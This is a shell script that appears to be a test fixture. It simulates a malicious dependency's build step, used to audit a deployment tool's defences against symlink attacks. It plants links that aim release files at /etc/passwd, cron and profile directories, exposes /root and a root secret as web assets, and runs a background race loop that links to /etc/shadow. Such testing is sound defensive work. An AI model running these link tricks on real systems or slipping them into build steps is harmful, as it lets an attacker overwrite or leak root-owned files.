#!/bin/sh
# A malicious dependency's build step (molecule/hostile_app), run as the app user in its
# build directory after `next build`. Every line is an attack from the audit of 2026-12-06;
# none may reach outside the release, and the run must still deploy the real build.
secret=/root/hk-root-secret
# H2: root used to write the environment file and the marker through these names.
ln -sfn /etc/profile.d/hk-pwned.sh .hardenkit.env.new
ln -sfn /etc/hk-passwd-sim .hardenkit-release.json.new
ln -sfn /etc/cron.d/hk-pwned .hardenkit.env
ln -sfn /etc/passwd .hardenkit-release.json
# M3: a static asset and a static directory that are links to root's files.
ln -sfn "$secret" .next/static/chunks/hk-leak.js
ln -sfn /root .next/static/hk-root
# H3 (only when asked: the release is then refused): BUILD_ID read through a link.
if [ "${HOSTILE_H3:-}" = 1 ]; then
  rm -f .next/BUILD_ID && ln -s "$secret" .next/BUILD_ID
fi
# M1 and L5: root-owned places a build must not reach.
for target in ../../releases/hk-m1.tar ../../shared/static/hk-from-build ../../current/hk-from-build; do
  if ln -s /etc/hk-m1 "$target" 2>/dev/null; then echo "hostile: planted $target"; else echo "hostile: refused $target"; fi
done
# A process that outlives the build and races root's take-over of this directory.
setsid sh -c 'while :; do ln -sfn /etc .next/static/hk-race 2>/dev/null; ln -sfn /etc/shadow hk-race 2>/dev/null; sleep 0.01; done' hk-hostile-daemon </dev/null >/dev/null 2>&1 &
exit 0
